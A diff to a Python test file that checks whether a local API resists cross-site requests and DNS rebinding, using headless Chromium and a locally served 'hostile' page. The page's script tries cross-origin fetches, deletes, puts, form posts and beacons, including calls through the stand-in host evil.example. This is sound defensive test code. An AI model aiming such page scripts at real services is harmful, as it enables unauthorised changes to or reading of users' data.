@@ -5,16 +5,17 @@ name of the attacker's that leads to the server. Nothing is done, nothing is rea
 really forms them so. Needs chromium, which CI installs.
 """
 
-import html
 import http.server
 import json
 import os
+import queue
 import re
 import shutil
+import signal
 import subprocess
 import threading
 from collections.abc import Iterator
-from contextlib import contextmanager
+from contextlib import contextmanager, suppress
 from pathlib import Path
 from typing import Any
 
@@ -27,12 +28,13 @@ CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
 FLAGS = [
     "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--disable-dev-shm-usage", "--no-first-run",
     "--disable-background-networking", "--disable-component-update", "--disable-sync", "--disable-extensions",
-    "--no-proxy-server", "--dump-dom",
+    "--no-proxy-server",
 ]  # fmt: skip
-PAGE = """<!doctype html><title>hostile</title><pre id=out></pre><iframe name=sink></iframe><script>
+PAGE = """<!doctype html><title>hostile</title><iframe name=sink></iframe><script>
 const target = TARGET, rebound = REBOUND, out = {};
 async function attempt(name, work) {
-  try { out[name] = await work(); } catch (error) { out[name] = "failed: " + error.name; }
+  const late = new Promise(done => setTimeout(done, 5000, "timed out"));
+  try { out[name] = await Promise.race([work(), late]); } catch (error) { out[name] = "failed: " + error.name; }
 }
 async function read(url, options) {
   const answer = await fetch(url, options);
@@ -61,32 +63,57 @@ function form(action, method, text) {
   await attempt("beacon", async () => navigator.sendBeacon(target + feed, text));
   await attempt("rebound get", () => read(rebound + "/v1/feeds", {mode: "no-cors"}));
   await attempt("rebound post", () => read(rebound + feed, {...plain, mode: "no-cors"}));
-  document.getElementById("out").textContent = JSON.stringify(out);
+  await fetch("/report", {method: "POST", body: JSON.stringify(out)});
 })();
 </script>"""
 
 
-def visit(url: str, profile: Path) -> str:
-    """The document of a page after its scripts have run. The name evil.example leads to this machine."""
+@contextmanager
+def browsing(url: str, profile: Path, *more: str) -> Iterator[subprocess.Popen[bytes]]:
+    """A browser that shows a page until the block ends. The name evil.example leads to this machine."""
     assert CHROMIUM is not None
-    flags = [*FLAGS, f"--user-data-dir={profile}", "--host-resolver-rules=MAP evil.example 127.0.0.1"]
-    done = subprocess.run(
-        [CHROMIUM, *flags, "--virtual-time-budget=20000", url],
-        capture_output=True, timeout=90, check=False, env=os.environ | {"HOME": str(profile)},
-    )  # fmt: skip
-    return done.stdout.decode("utf-8", "replace")
+    profile.mkdir(exist_ok=True)
+    flags = [*FLAGS, f"--user-data-dir={profile}", "--host-resolver-rules=MAP evil.example 127.0.0.1", *more]
+    browser = subprocess.Popen(
+        [CHROMIUM, *flags, url],
+        stdout=subprocess.PIPE,
+        stderr=subprocess.DEVNULL,
+        env=os.environ | {"HOME": str(profile)},
+        start_new_session=True,
+    )
+    try:
+        yield browser
+    finally:
+        with suppress(ProcessLookupError):
+            os.killpg(browser.pid, signal.SIGKILL)
+        browser.communicate()
+
+
+def document(url: str, profile: Path) -> str:
+    """The document of a page without scripts."""
+    with browsing(url, profile, "--dump-dom") as browser:
+        return browser.communicate(timeout=60)[0].decode("utf-8", "replace")
 
 
 @contextmanager
-def hostile(page: bytes) -> Iterator[int]:
-    """Another site, on another port."""
+def hostile(page: bytes) -> Iterator[tuple[int, queue.Queue[dict[str, Any]]]]:
+    """Another site, on another port, and what its page reports to it."""
+    reports: queue.Queue[dict[str, Any]] = queue.Queue()
 
     class Site(http.server.BaseHTTPRequestHandler):
         def do_GET(self) -> None:
+            self._answer(page)
+
+        def do_POST(self) -> None:
+            reports.put(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
+            self._answer(b"")
+
+        def _answer(self, content: bytes) -> None:
             self.send_response(200)
             self.send_header("Content-Type", "text/html; charset=utf-8")
+            self.send_header("Content-Length", str(len(content)))
             self.end_headers()
-            self.wfile.write(page)
+            self.wfile.write(content)
 
         def log_message(self, *_: Any) -> None:
             pass
@@ -95,7 +122,7 @@ def hostile(page: bytes) -> Iterator[int]:
     thread = threading.Thread(target=server.serve_forever)
     thread.start()
     try:
-        yield server.server_address[1]
+        yield server.server_address[1], reports
     finally:
         server.shutdown()
         thread.join()
@@ -113,13 +140,11 @@ def test_a_hostile_page_changes_and_reads_nothing(tmp_path: Path) -> None:
     with running_api(tmp_path / "data") as api:
         page = PAGE.replace("TARGET", json.dumps(api.url)).replace("ROW", json.dumps(row()))
         page = page.replace("REBOUND", json.dumps(f"http://evil.example:{api.port}"))
-        with hostile(page.encode()) as port:
-            shown = visit(f"http://evil.example:{port}/", tmp_path / "profile")
-        found = re.search(r"<pre id=\"out\">(.*?)</pre>", shown, re.DOTALL)
-        assert found is not None, shown[:2000]
-        assert found[1], shown[:2000]
-        out = json.loads(html.unescape(found[1]))
-        assert out["form"] == "sent", out
+        with (
+            hostile(page.encode()) as (port, reports),
+            browsing(f"http://evil.example:{port}/", tmp_path / "profile", "--remote-debugging-port=0"),
+        ):
+            out = reports.get(timeout=60)
         for name in ("cors", "delete", "put", "get"):
             assert out[name] == "failed: TypeError", (name, out)
         assert "dropzone" not in json.dumps(out), out  # no answer of the server was read
@@ -133,7 +158,7 @@ def test_a_hostile_page_changes_and_reads_nothing(tmp_path: Path) -> None:
 @pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed")
 def test_a_page_under_a_rebound_name_shows_a_refusal_and_our_own_pages_work(tmp_path: Path) -> None:
     with running_api(tmp_path / "data") as api:
-        rebound = visit(f"http://evil.example:{api.port}/v1/feeds", tmp_path / "profile")
+        rebound = document(f"http://evil.example:{api.port}/v1/feeds", tmp_path / "profile")
         assert "misdirected" in rebound
         assert "dropzone" not in rebound
-        assert "The time-series service" in visit(f"{api.url}/", tmp_path / "profile")
+        assert "The time-series service" in document(f"{api.url}/", tmp_path / "profile")
